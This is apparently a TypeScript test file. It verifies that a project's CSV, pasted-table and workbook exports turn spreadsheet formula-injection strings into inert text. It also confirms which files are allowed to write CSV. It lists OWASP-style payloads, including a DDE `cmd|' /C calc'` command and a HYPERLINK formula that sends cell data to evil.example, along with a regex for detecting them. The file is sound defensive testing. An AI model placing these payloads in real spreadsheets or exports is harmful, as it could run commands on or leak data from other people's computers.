/**
 * Guarantee: no text of a table, a header or a reader's own file is run by the spreadsheet that opens one of our files, be it
 * CSV, a paste or a workbook. Without it a title in somebody's payroll would run a command on a colleague's computer.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { read } from '@e965/xlsx';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { number, text } from './column.ts';
import { rowsToCsv, tableToCsv } from './csv.ts';
import { figureOf, inputOf, ROWS, type Row } from './files/files.fixture.ts';
import { tableCsv, tableTsv } from './files/rows.ts';
import { workbookBytes } from './files/workbook.ts';
import { openNodeRasteriser } from './raster/node.ts';

/** As attackers write them (OWASP), and what a spreadsheet of another script takes for the same. */
const ATTACKS = [
	`=cmd|' /C calc'!A0`,
	'=HYPERLINK("https://evil.example/?"&A1,"x")',
	'=1+1\nsecond line',
	'+1+cmd',
	'-2+3+cmd|" /C calc"!A0',
	'@SUM(1+1)*cmd',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(1)',
];
const RUN = /^[\s]*[=+\-@＝＋－＠]/;
const row = (title: string) => ({ ...(ROWS[0] as Row), title, area: title, flag: title });

describe.each(ATTACKS)('%j', (attack) => {
	it('is text in every cell and header of a CSV', () => {
		const columns = [text(attack, attack, String), number('n', 'n', () => -1)];
		for (const csv of [
			rowsToCsv([attack], columns),
			tableToCsv({ columns: [{ name: attack, header: attack }], rows: [[attack]] } as unknown as Parameters<
				typeof tableToCsv
			>[0]),
			tableCsv(figureOf([row(attack)]).table),
		]) {
			const cells = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\n' }).data.flat();
			expect(cells.some((cell) => cell.includes(attack))).toBe(true);
			for (const cell of cells) if (Number.isNaN(Number(cell))) expect(cell).not.toMatch(RUN);
		}
	});

	it('is text in what is pasted', () => {
		const cells = tableTsv(figureOf([row(attack)]).table, 'all').split(/[\t\n]/);
		for (const cell of cells) if (Number.isNaN(Number(cell))) expect(cell).not.toMatch(RUN);
	});

	it('is a text cell of a workbook, not a formula', async () => {
		const input = await inputOf(openNodeRasteriser(), figureOf([row(attack)]));
		const book = read(workbookBytes(input), { cellFormula: true });
		for (const sheet of Object.values(book.Sheets)) {
			for (const [address, cell] of Object.entries(sheet)) {
				if (address.startsWith('!')) continue;
				expect(cell, address).not.toHaveProperty('f');
				expect(cell, address).not.toHaveProperty('l');
			}
		}
	});
});

/**
 * A file that a reader saves is written by `export/csv.ts`, which guards its cells; the datasets' own writer writes official files,
 * and that of `/sql` what its engine takes in, which no spreadsheet opens.
 */
const WRITERS = [
	'lib/datasets/writing/csv.ts',
	'lib/export/csv.ts',
	'lib/export/trace/table.ts',
	'lib/own/sql/own-tables.ts',
];

it('there are no other writers of CSV', () => {
	const source = join(import.meta.dirname, '../..');
	const files = readdirSync(source, { recursive: true, encoding: 'utf8' }).filter(
		(path) => /\.(?:ts|svelte)$/.test(path) && !/\.test\.ts$|\.fixture\.ts$/.test(path),
	);
	const writers = files.filter((path) => readFileSync(join(source, path), 'utf8').includes('.unparse('));
	expect(writers.map((path) => relative('.', path)).sort()).toEqual(WRITERS);
});
